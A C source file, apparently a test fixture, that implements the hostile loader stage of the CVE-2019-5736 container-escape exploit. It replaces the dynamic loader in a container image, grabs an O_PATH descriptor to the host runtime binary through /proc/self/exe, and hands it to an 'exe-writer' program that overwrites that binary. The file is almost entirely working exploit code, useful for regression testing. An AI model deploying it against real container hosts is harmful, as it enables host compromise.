/* evil-interp: a hostile image's ELF interpreter (CVE-2019-5736, the published exploit).
 *
 * Installed in a test rootfs as /lib64/ld-linux-x86-64.so.2, it runs in place of the dynamic
 * loader whenever the container executes a dynamically linked binary, such as the host's
 * runtime reached through an entrypoint of `/proc/self/exe`. Then, with the runtime binary as
 * its /proc/self/exe, it
 *   - prints EVIL-RAN and the st_dev/st_ino of /proc/self/exe,
 *   - prints REACHED if that is the file named by the last two arguments (decimal dev and ino,
 *     passed through the container's args: the loader sees the program's argv, which for a
 *     `#!/proc/self/exe` script is {"/proc/self/exe", SCRIPT, ARGS...}),
 *   - keeps an O_PATH fd of it across execve("/bin/exe-writer", {"exe-writer", FD}), which
 *     retries opening the binary for writing once no process executes it any more.
 *
 * Freestanding (no libc: a static glibc would set itself up from the main program's auxv),
 * x86_64 raw syscalls only. */
typedef unsigned long u64;

#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_fstat 5
#define SYS_execve 59
#define SYS_exit 60
#define O_PATH_ 010000000

static long sc3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static u64 slen(const char *s)
{
    u64 n = 0;
    while (s[n])
        n++;
    return n;
}

static void out(const char *s) { sc3(SYS_write, 1, (long)s, (long)slen(s)); }

static char *utoa(u64 v, char *end)
{
    *--end = 0;
    do {
        *--end = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    return end;
}

static u64 atou(const char *s)
{
    u64 v = 0;
    if (!s)
        return ~0UL;
    while (*s >= '0' && *s <= '9')
        v = v * 10 + (u64)(*s++ - '0');
    return v;
}

void evil_main(long *sp)
{
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = argv + argc + 1;
    char b1[32], b2[32];

    out("EVIL-RAN\n");
    long fd = sc3(SYS_open, (long)"/proc/self/exe", O_PATH_, 0);
    if (fd < 0) {
        out("EVIL-EXE-OPEN-FAILED\n");
        sc3(SYS_exit, 3, 0, 0);
    }
    u64 st[18]; /* struct stat on x86_64: st_dev at 0, st_ino at 8 */
    if (sc3(SYS_fstat, fd, (long)st, 0) < 0) {
        out("EVIL-FSTAT-FAILED\n");
        sc3(SYS_exit, 3, 0, 0);
    }
    out("EVIL-EXE dev=");
    out(utoa(st[0], b1 + sizeof b1));
    out(" ino=");
    out(utoa(st[1], b2 + sizeof b2));
    out("\n");
    if (argc >= 3 && st[0] == atou(argv[argc - 2]) && st[1] == atou(argv[argc - 1]))
        out("REACHED\n");

    char *wargv[3] = {"exe-writer", utoa((u64)fd, b1 + sizeof b1), 0};
    sc3(SYS_execve, (long)"/bin/exe-writer", (long)wargv, (long)envp);
    out("EVIL-EXEC-WRITER-FAILED\n");
    sc3(SYS_exit, 4, 0, 0);
}

__asm__(".text\n"
        ".global _start\n"
        "_start:\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call evil_main\n"
        "  hlt\n");
